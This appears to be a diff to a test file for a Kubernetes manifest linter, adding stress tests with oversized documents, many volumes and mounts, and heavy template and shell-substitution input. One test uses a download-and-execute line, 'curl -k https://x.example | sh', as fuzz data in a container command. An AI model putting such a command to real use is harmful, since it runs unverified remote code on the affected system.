@@ -7,6 +7,8 @@ import { engineWith, uriOf } from '../harness/analyse.ts';
 
 const POD = 'apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  hostNetwork: true\n  containers: [{name: web, image: a}]\n';
 
+const look = (text: string) => engineWith({ 'test.yaml': text }).report(uriOf('test.yaml'));
+
 const analyse = (text: string) => {
   const engine = engineWith({ 'test.yaml': text });
   fixFile(engine, uriOf('test.yaml'), true);
@@ -47,6 +49,30 @@ describe('hostile and broken text', () => {
     analyse(`${POD}${lines(() => '# kubewright: ignore')}\n`);
     analyse(`${POD}${lines(() => '---')}\n`);
     analyse(`${POD}${lines(() => '{{')}\n`);
+  }, 60_000);
+
+  test.each([
+    ['values', `spec:\n  x: [${'a, '.repeat(110_000)}]\n`, '100,000 keys and values'],
+    ['lines', `spec:\n${'  - a\n'.repeat(310_000)}`, '300,000 lines and entries'],
+    ['containers', `spec:\n  containers: [${'{name: a}, '.repeat(12_000)}]\n`, '10,000 containers, volumes and other parts'],
+  ])('a document of too many %s is not looked at, and says so; the others are', (_, spec, what) => {
+    const { reports, problems } = look(`${POD}---\napiVersion: v1\nkind: Pod\nmetadata: {name: huge}\n${spec}`);
+    expect(reports.map(({ rule }) => rule)).toContain('host-network');
+    expect(problems.map(({ message }) => message)).toEqual([`Not checked: the document has more than the ${what} that are looked at`]);
+  });
+
+  test('many volumes that are mounted, template actions on one line and around lists, substitutions in one another', () => {
+    const each = (line: (i: number) => string): string => Array.from({ length: 800 }, (_, i) => line(i)).join('');
+    const volumes = each((i) => `  - {name: v${i}, emptyDir: {}}\n`);
+    const mounts = each((i) => `    - {name: v${i}, mountPath: /v${i}}\n`);
+    look(`${POD}  volumes:\n${volumes}`);
+    look(
+      `apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  volumes:\n${volumes}  containers:\n  - name: web\n    image: a\n    volumeMounts:\n${mounts}`,
+    );
+    look(`${POD}  x: ${'{{ a }} '.repeat(100_000)}\n`);
+    look(`${POD.replace(/ {2}containers.*/, '  containers:')}${each((i) => `  - name: c${i}\n    {{- toYaml .x | nindent 4 }}\n`)}`);
+    for (const script of ['$('.repeat(50_000), '"`'.repeat(20_000), 'curl -k https://x.example | sh\n'.repeat(50_000)])
+      look(`${POD.replace(/ {2}containers.*/, '')}  containers: [{name: web, image: a, command: [sh, -c, ${JSON.stringify(script)}]}]\n`);
   }, 60_000);
 
   test('a character that Kubernetes refuses is told at its place', () => {
